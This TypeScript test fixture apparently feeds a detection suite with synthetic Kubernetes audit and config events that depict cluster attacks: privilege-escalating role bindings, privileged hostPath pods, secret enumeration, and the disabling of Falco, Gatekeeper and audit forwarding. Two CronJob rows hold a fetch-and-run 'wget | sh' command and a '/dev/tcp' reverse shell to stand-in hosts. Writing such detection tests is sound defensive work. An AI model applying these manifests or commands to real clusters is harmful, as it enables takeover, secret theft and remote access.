import { rowsOf } from "./needle.ts";
import type { Needle } from "./needle.ts";
import type { EventRecord } from "../../../src/event-fields/event-record.ts";

/** verb ;; resource[/subresource] ;; namespace ;; name ;; mark ;; other fields */
const AUDIT = `
create ;; pods/exec ;; payments ;; vault-0 ;; vault-0 ;; {"requestURI":"/api/v1/namespaces/payments/pods/vault-0/exec?command=sh&stdin=true&tty=true","code":101}
get ;; pods/exec ;; prod ;; ledger-7f9c5d6b8-abcde ;; ledger-
create ;; pods/attach ;; prod ;; api-0 ;; attach
create ;; pods/portforward ;; data ;; redis-master-0 ;; redis-master-0
create ;; pods/ephemeralcontainers ;; prod ;; api-0 ;; ephemeralcontainers
patch ;; pods/ephemeralcontainers ;; prod ;; cart-1 ;; debugger-x7 ;; {"requestObject":{"spec":{"ephemeralContainers":[{"name":"debugger-x7","image":"busybox","targetContainerName":"app"}]}}}
get ;; secrets ;; prod ;; stripe-api-key ;; stripe-api-key
list ;; secrets ;;  ;;  ;; secrets ;; {"requestURI":"/api/v1/secrets?limit=500"}
get ;; secrets ;; kube-system ;; bootstrap-token-abcdef ;; bootstrap-token
create ;; serviceaccounts/token ;; kube-system ;; clusterrole-aggregation-controller ;; clusterrole-aggregation-controller
create ;; clusterrolebindings ;;  ;; ops-emergency ;; ops-emergency ;; {"requestObject":{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"User","name":"mallory"}]}}
create ;; rolebindings ;; kube-system ;; view-all ;; view-all ;; {"requestObject":{"roleRef":{"kind":"ClusterRole","name":"admin"},"subjects":[{"kind":"Group","name":"system:unauthenticated"}]}}
update ;; clusterroles ;;  ;; system:aggregate-to-view ;; system:aggregate-to-view ;; {"requestObject":{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}}
patch ;; clusterroles ;;  ;; edit ;; escalate ;; {"requestObject":{"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["escalate","bind"]}]}}
create ;; pods ;; default ;; everything-allowed ;; everything-allowed ;; {"requestObject":{"spec":{"hostPID":true,"hostNetwork":true,"containers":[{"name":"c","image":"alpine","securityContext":{"privileged":true}}]}}}
create ;; pods ;; kube-system ;; kube-proxy-x2k1z ;; /var/run/docker.sock ;; {"requestObject":{"spec":{"volumes":[{"name":"v","hostPath":{"path":"/var/run/docker.sock"}}],"containers":[{"name":"c","image":"docker:24"}]}}}
create ;; daemonsets ;; kube-system ;; node-health-agent ;; node-health-agent ;; {"requestObject":{"spec":{"template":{"spec":{"hostPID":true,"containers":[{"image":"docker.io/zz9/agent:1"}]}}}}}
create ;; cronjobs ;; default ;; db-maint ;; db-maint ;; {"requestObject":{"spec":{"schedule":"*/5 * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"image":"alpine","command":["sh","-c","wget -qO- http://203.0.113.9/x | sh"]}]}}}}}}}
create ;; jobs ;; default ;; kinsing-job ;; kinsing-job
create ;; mutatingwebhookconfigurations ;;  ;; sidecar-tuner ;; sidecar-tuner ;; {"requestObject":{"webhooks":[{"name":"x","clientConfig":{"url":"https://198.51.100.99/mutate"}}]}}
delete ;; validatingwebhookconfigurations ;;  ;; gatekeeper-validating ;; gatekeeper-validating
delete ;; networkpolicies ;; prod ;; default-deny ;; default-deny
delete ;; events ;; prod ;;  ;; deletecollection ;; {"verb":"deletecollection","action":"deletecollection"}
delete ;; daemonsets ;; falco ;; falco ;; falco
create ;; certificatesigningrequests ;;  ;; csr-node-99 ;; csr-node-99 ;; {"requestObject":{"spec":{"signerName":"kubernetes.io/kube-apiserver-client","groups":["system:masters"]}}}
update ;; certificatesigningrequests/approval ;;  ;; csr-k9 ;; csr-k9
create ;; selfsubjectaccessreviews ;;  ;;  ;; selfsubjectaccessreviews ;; {"requestObject":{"spec":{"resourceAttributes":{"verb":"*","resource":"*"}}}}
create ;; selfsubjectrulesreviews ;;  ;;  ;; selfsubjectrulesreviews
list ;; pods ;;  ;;  ;; system:anonymous ;; {"user":"system:anonymous","groups":["system:unauthenticated"],"code":403}
get ;; nodes/proxy ;;  ;; node-3 ;; node-3 ;; {"requestURI":"/api/v1/nodes/node-3/proxy/run/kube-system/etcd-0/etcd?cmd=id"}
create ;; services ;; default ;; backdoor-np ;; backdoor-np ;; {"requestObject":{"spec":{"type":"NodePort","ports":[{"port":4444,"nodePort":31337}]}}}
patch ;; configmaps ;; kube-system ;; coredns ;; coredns-rewrite ;; {"requestObject":{"data":{"Corefile":"rewrite name coredns-rewrite.attacker.example"}}}
update ;; configmaps ;; kube-system ;; aws-auth ;; aws-auth ;; {"requestObject":{"data":{"mapUsers":"- userarn: arn:aws:iam::998877665544:user/x\\n  groups: [system:masters]"}}}
patch ;; nodes ;;  ;; node-7 ;; node-7 ;; {"requestObject":{"spec":{"taints":null}}}
delete ;; namespaces ;;  ;; payments-prod ;; payments-prod
delete ;; persistentvolumeclaims ;; data ;; pg-data-0 ;; pg-data-0
create ;; pods ;; default ;; dbg ;; evil.example/pause ;; {"requestObject":{"spec":{"nodeName":"master-1","tolerations":[{"operator":"Exists"}],"containers":[{"image":"evil.example/pause:3"}]}}}
patch ;; deployments ;; prod ;; api ;; curlimages/curl ;; {"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"api","image":"curlimages/curl:latest","command":["sh","-c","sleep 1d"]}]}}}}}
impersonate ;; users ;;  ;; system:admin ;; system:admin ;; {"impersonatedUser":{"username":"system:admin","groups":["system:masters"]}}
get ;; secrets ;; prod ;; db-creds ;; peirates ;; {"userAgent":"peirates/v1.1.13"}
list ;; configmaps ;;  ;;  ;; kube-hunter ;; {"userAgent":"kube-hunter","user":"system:serviceaccount:default:default"}
list ;; secrets ;; kube-system ;;  ;; serviceaccount:prod:web ;; {"user":"system:serviceaccount:prod:web","userAgent":"curl/7.88.1"}
create ;; pods ;; prod ;; web-shell ;; 192.0.2.99 ;; {"sourceIPs":["192.0.2.99"],"ip":"192.0.2.99"}
create ;; validatingadmissionpolicybindings ;;  ;; skip-all ;; skip-all
delete ;; podsecuritypolicies ;;  ;; restricted-psp ;; restricted-psp
patch ;; namespaces ;;  ;; prod ;; pod-security.kubernetes.io/enforce ;; {"requestObject":{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}}
patch ;; serviceaccounts ;; default ;; default ;; rogue-reg ;; {"requestObject":{"imagePullSecrets":[{"name":"rogue-reg"}]}}
create ;; ingresses ;; prod ;; api-mirror ;; api-mirror ;; {"requestObject":{"metadata":{"annotations":{"nginx.ingress.kubernetes.io/server-snippet":"mirror"}}}}
get ;; pods/log ;; kube-system ;; etcd-master-1 ;; etcd-master-1
update ;; deployments/scale ;; security ;; audit-forwarder ;; audit-forwarder ;; {"requestObject":{"spec":{"replicas":0}}}
create ;; apiservices ;;  ;; v1beta1.metrics-x.io ;; v1beta1.metrics-x.io
`;

/** kind ;; namespace ;; name ;; mark ;; other fields */
const CONFIG = `
ClusterRoleBinding ;;  ;; helpdesk-all ;; helpdesk-all ;; {"role_name":"cluster-admin","role_type":"ClusterRole"}
ClusterRole ;;  ;; reader-plus ;; reader-plus ;; {"role_name":"reader-plus","role_type":"ClusterRole","verbs":["*"]}
Role ;; kube-system ;; token-maker ;; token-maker ;; {"role_name":"token-maker","role_type":"Role","verbs":["create","impersonate"]}
RoleBinding ;; prod ;; anon-view ;; system:anonymous ;; {"role_name":"view","role_type":"ClusterRole","subjects":[{"kind":"User","name":"system:anonymous"}]}
Pod ;; default ;; privileged-shell ;; privileged-shell ;; {"privileged":true,"hostPID":true}
Pod ;; prod ;; api-canary ;; /etc/kubernetes/pki ;; {"spec":{"volumes":[{"hostPath":{"path":"/etc/kubernetes/pki"}}]}}
ServiceAccount ;; kube-system ;; default-helper ;; default-helper
CronJob ;; default ;; sync-clock ;; sync-clock ;; {"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"image":"sync","args":["bash -i >& /dev/tcp/198.51.100.4/443 0>&1"]}]}}}}}}
Secret ;; default ;; default-token-static ;; default-token-static ;; {"secret_type":"kubernetes.io/service-account-token"}
Service ;; default ;; dashboard-ext ;; dashboard-ext ;; {"spec":{"type":"LoadBalancer"}}
NetworkPolicy ;; prod ;; allow-any-egress ;; allow-any-egress
MutatingWebhookConfiguration ;;  ;; image-patcher ;; image-patcher
`;

export const MORE_KUBERNETES: readonly Needle[] = [
  ...rowsOf(AUDIT).map(
    ([verb = "", path = "", namespace = "", name = "", mark = "", other = "{}"]) => {
      const [resource, subresource] = path.split("/");
      return {
        platform: "kubernetes" as const,
        mark,
        fields: {
          event_type: "kubernetesAudit",
          verb,
          resource,
          ...(subresource !== undefined && { subresource }),
          namespace,
          name,
          code: verb === "create" ? 201 : 200,
          ...(JSON.parse(other) as EventRecord),
        },
      };
    },
  ),
  ...rowsOf(CONFIG).map(([type = "", namespace = "", name = "", mark = "", other = "{}"]) => ({
    platform: "kubernetes" as const,
    mark,
    fields: {
      event_type: "kubernetesConfig",
      type,
      namespace,
      name,
      ...(JSON.parse(other) as EventRecord),
    },
  })),
];
